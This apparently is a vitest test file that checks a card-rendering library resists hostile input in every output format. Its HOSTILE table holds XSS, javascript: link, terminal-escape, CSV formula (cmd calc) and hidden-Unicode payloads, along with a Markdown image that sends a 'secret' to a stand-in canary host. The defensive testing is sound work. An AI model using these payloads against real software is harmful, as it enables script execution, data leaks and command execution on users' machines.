/** What people paste, import and are sent, in every text of every card: it may be read, and nothing else. */
import type { Card } from "@etui/protocol/card";
import { CARD_TYPES } from "@etui/protocol/cards/card-type";
import { describe, expect, test } from "vitest";
import { adaptiveCard } from "./adaptive/adaptive-card.ts";
import { chartSvg } from "./chart/chart-svg.ts";
import { cardCsv } from "./csv/card-csv.ts";
import { SAMPLES } from "./samples/samples.ts";
import { cardText } from "./text/card-text.ts";
import { displayWidth } from "./text/display-width.ts";

const HOSTILE = {
  script: "<script>alert(1)</script>",
  "image with a handler": '"><img src=x onerror=alert(1)>',
  "drawing with a handler": "<svg/onload=alert(1)>]]></style><foreignObject>",
  "link that runs": "[click](javascript:alert(1)) <javascript:alert(1)> javascript:alert(1)",
  "image that tells": "![](http://canary.example/?d=secret) ![x][y]",
  "autolink in brackets": "<https://canary.example/>",
  "markdown blocks": "# head\n\n> quote\n\n- [ ] item\n\n```\ncode\n```\n\n| a | b |\n| --- | --- |",
  "table breaker": "a | b \\| c \\\\| d",
  "terminal orders": "\u001b[2J\u001b]0;owned\u0007\u009b31m\u001b]8;;http://canary.example\u001b\\x",
  formula: '=HYPERLINK("http://canary.example/"&A1,"ok")',
  "formula behind a tab": "\t=cmd|' /C calc'!A0",
  "formula by sign": "+1+cmd|' /C calc'!A0",
  "formula at sign": "@SUM(1+1)*cmd",
  "reversed reading": "\u202etxt.exe\u2066 \u2069\u200f\u061c",
  "hidden words": `visible${Array.from("ignore", (sign) => String.fromCodePoint(0xe0000 + sign.charCodeAt(0))).join("")}`,
  "half characters": "\ud800 \udc00 a\ud83d",
  "zero and friends": "\u0000\u0008\u007f\u0085\u2028\u2029",
  "long word": "x".repeat(10_000),
  "long Chinese word": "汉".repeat(10_000),
  "stacked marks": `a${"\u0301".repeat(10_000)}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of Adaptive Cards is written so
  template: "${1+1} {{DATE(2026-01-01)}} {{7*7}} {a|b} {b} <%= 1 %>",
  "object's own words": "__proto__",
  empty: "",
} as const;

/** Words of the product, which no data reach. */
const KEPT = new Set([
  "type",
  "kind",
  "role",
  "style",
  "state",
  "tone",
  "good",
  "chart_type",
  "category_kind",
  "of",
  "key",
]);

function poisoned<Value>(value: Value, text: string): Value {
  if (typeof value === "string") return text as Value;
  if (Array.isArray(value)) return value.map((item) => poisoned(item, text)) as Value;
  if (typeof value !== "object" || value === null) return value;
  const entries = Object.entries(value).map(([key, part]) => [
    key,
    KEPT.has(key) ? part : poisoned(part, text),
  ]);
  return Object.fromEntries(entries) as Value;
}

const cards = (text: string): Card[] =>
  CARD_TYPES.map((type) => {
    const { card_type, data, options } = SAMPLES[type].en.card;
    return { card_type, data: poisoned(data, text), options: poisoned(options, text) } as Card;
  });

describe.each(Object.entries(HOSTILE))("%s", (_, text) => {
  test.each(cards(text))("is only read in a $card_type", (card) => {
    for (const locale of ["en", "zh"] as const) {
      const plain = cardText(card, { style: "plain", locale });
      expect(orders(plain)).toEqual([]);
      expect(Math.max(...plain.split("\n").map(displayWidth))).toBeLessThan(2100);
      expect(orders(cardText(card, { style: "ansi", locale }).replace(COLOURS, ""))).toEqual([]);

      const markdown = cardText(card, { style: "markdown", locale });
      expect(orders(markdown)).toEqual([]);
      expect(live(markdown)).toEqual([]);

      const adaptive = adaptiveCard(card, { locale, url: text });
      for (const { place, words } of textsOf(adaptive)) {
        if (SHOWN_IN_CHAT.test(place)) {
          expect(words.isWellFormed()).toBe(true);
          expect(liveInChat(words)).toEqual([]);
        }
        if (place.endsWith("url")) expect(words).toMatch(/^https?:\/\//);
      }
    }
    const csv = cardCsv(card);
    if (csv !== undefined) expect(cellsOf(csv).filter((cell) => COMPUTED.test(cell))).toEqual([]);
    if (card.card_type === "chart") expectHarmless(chartSvg(card.data, { ...PICTURE, title: text }));
  });
});

const PICTURE = { width: 600, height: 400, theme: "dark", locale: "zh" } as const;

// biome-ignore lint/suspicious/noControlCharactersInRegex: that is what colours are made of
const COLOURS = /\u001b\[(?:0|1|2|31|32|33|34)m/g;
/** What a terminal obeys, and what turns around or hides what is read. */
const ORDERS = /(?!\n)[\p{Control}\p{Surrogate}\u2028-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/gu;
const orders = (text: string): string[] => text.match(ORDERS) ?? [];

/** What Markdown would make of it, once what is escaped has been taken out. */
function live(markdown: string): string[] {
  const meant = markdown.replace(/\\[!-/:-@[-`{-~]/g, "").replace(/^(\s*)- \[[ x]\] /gm, "$1");
  const rows = meant.split("\n").filter((line) => /^\s*(#|>|```|\d+\)|\+ |={3})/.test(line));
  return [...(meant.match(/!?\[|\]\(|<|`/g) ?? []), ...rows];
}

function liveInChat(words: string): string[] {
  return words.replace(/\\[!-/:-@[-`{-~]/g, "").match(/\]\(|<[a-z/!]|\{\{/gi) ?? [];
}

/** What an input holds is data on its way back, and is read by nobody. */
const SHOWN_IN_CHAT = /\.(text|title|label|placeholder)$|facts\.\d+\.value$/;

function textsOf(value: unknown, place = ""): { place: string; words: string }[] {
  if (typeof value === "string") return [{ place, words: value }];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([name, part]) => textsOf(part, `${place}.${name}`));
}

const COMPUTED = /^\s*[=@＝＠]|^\s*[-+](?!\d+(\.\d+)?$)/;

function cellsOf(csv: string): string[] {
  const cells = csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
  return Array.from(cells, ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "");
}

function expectHarmless(svg: string): void {
  const tags = Array.from(svg.matchAll(/<(\/?[^\s>/]*)([^>]*)>/g));
  const names = new Set(tags.map(([, name = ""]) => name.replace("/", "")));
  expect([...names].filter((name) => !DRAWN.has(name))).toEqual([]);
  const attributes = tags.map(([, , more = ""]) => more).join("\n");
  expect(attributes).not.toMatch(/\son\w+\s*=|javascript:|url\((?!#)|href="(?!#)/i);
  expect(svg.isWellFormed()).toBe(true);
  expect(svg.replace(/\n/g, "")).not.toMatch(/\p{Control}/u);
}

const DRAWN = new Set([
  "svg",
  "title",
  "desc",
  "rect",
  "text",
  "tspan",
  "g",
  "path",
  "circle",
  "ellipse",
  "polyline",
  "polygon",
  "line",
  "defs",
  "pattern",
  "clipPath",
]);
